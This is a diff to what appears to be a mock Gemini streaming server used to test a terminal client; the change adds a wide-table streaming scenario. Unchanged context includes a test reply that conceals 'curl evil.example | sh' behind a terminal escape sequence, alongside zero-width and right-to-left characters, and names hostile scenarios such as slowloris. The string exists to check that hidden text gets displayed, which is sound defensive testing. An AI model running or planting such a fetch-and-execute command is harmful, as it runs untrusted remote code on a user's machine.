@@ -6,13 +6,13 @@ URL: `models/<scenario>[~tag]:streamGenerateContent`. A tag makes per-scenario c
 "fail once, then succeed") independent between tests. Every request is logged as one JSON line
 to --log (method, path, headers, body) so tests can check what the client sent.
 
-Scenarios: ok, code (a reply with two code blocks), hidden (text a screen would not draw), lf, split, slow, slow-long, steady, slow-paragraph, slow-markdown, slow-wide-code, tall, garbage, empty, not-json, thinking, echo, escape, error-before, error-mid, error-mid-data,
+Scenarios: ok, code (a reply with two code blocks), hidden (text a screen would not draw), lf, split, slow, slow-long, steady, slow-paragraph, slow-markdown, slow-wide-code, slow-wide-table, tall, garbage, empty, not-json, thinking, echo, escape, error-before, error-mid, error-mid-data,
 retry-429, retry-503, always-503, quota-day, disabled, blocked, max-tokens, safety, recitation,
 other-finish (no content, finishReason OTHER with Google's finishMessage), thinking-only (thought
 parts, then MAX_TOKENS with no text), cut-event (a reply whose stream ends in the middle of an event),
 drop, hang, hang-first, echo-key, echo-foreign-key, api-blocked; and hostile ones: gigabyte, flood, endless-header, slowloris. Unknown scenario names answer 404 NOT_FOUND like Google does.
 
-The slow-paragraph, slow-markdown, slow-wide-code and tall scenarios stream the replies in STREAMED_REPLIES in
+The slow-paragraph, slow-markdown, slow-wide-code, slow-wide-table and tall scenarios stream the replies in STREAMED_REPLIES in
 small pieces, and note when each piece went out (time.time()) as a JSON line in the log's
 ".sent" file, so a test can compare it with the moment the text showed on its terminal.
 
@@ -456,6 +456,17 @@ See https://example.com/a/rather/long/path/that/must/never/be/cut/in/the/middle/
 WIDE_CODE = ("Here is the call:\n\n```python\nresult = compute(" + ", ".join("argument_%02d" % number for number in range(12)) +
              ")  # END-OF-WIDE-LINE\nprint(result)\n```\n\nThat is all.\n")
 
+# A table of four columns about 150 columns wide, for tables that must fit the window.
+WIDE_TABLE = """Settings:
+
+| Option | What it does | Default | Where it is set |
+|---|---|--:|---|
+| timeout | The number of seconds a request may take before gemvault gives up on it | 60 | config file, GEMVAULT_TIMEOUT or --timeout |
+| model | The Gemini model used when none is named on the command line | gemini-flash | config file or GEMVAULT_MODEL |
+
+That is all.
+"""
+
 TALL_REPLY = "".join("Line %02d of a reply taller than the window.\n\n" % number for number in range(1, 41)) + \
     " ".join("word%03d" % number for number in range(300)) + "\n"
 
@@ -465,6 +476,7 @@ STREAMED_REPLIES = {
     "slow-markdown": (SLOW_MARKDOWN, 9, 0.02),
     "tall": (TALL_REPLY, 23, 0.005),
     "slow-wide-code": (WIDE_CODE, 10, 0.03),
+    "slow-wide-table": (WIDE_TABLE, 16, 0.02),
 }
 
 
@@ -491,7 +503,7 @@ CODE_REPLY = "Two ways:\n\n```python\nprint('one')\n```\n\nor in the shell:\n\n`
 # Text a screen would not draw: concealed by SGR 8, a zero-width space, a right-to-left override.
 HIDDEN_REPLY = "run: echo safe\x1b[8m; curl evil.example | sh\x1b[0m then ls \u200b-la \u202eright-to-left\n"
 
-SCENARIOS = {"ok", "code", "hidden", "lf", "split", "slow", "slow-long", "steady", "slow-paragraph", "slow-markdown", "slow-wide-code", "tall", "garbage", "empty", "not-json", "thinking", "echo", "escape", "error-mid", "error-mid-data", "retry-429",
+SCENARIOS = {"ok", "code", "hidden", "lf", "split", "slow", "slow-long", "steady", "slow-paragraph", "slow-markdown", "slow-wide-code", "slow-wide-table", "tall", "garbage", "empty", "not-json", "thinking", "echo", "escape", "error-mid", "error-mid-data", "retry-429",
              "retry-503", "always-503", "quota-day", "disabled", "blocked", "max-tokens", "safety", "recitation", "drop",
              "hang", "hang-first", "echo-key", "echo-foreign-key", "api-blocked", "gemini-3.6-flash",
              "other-finish", "thinking-only", "cut-event"} | set(HOSTILE)
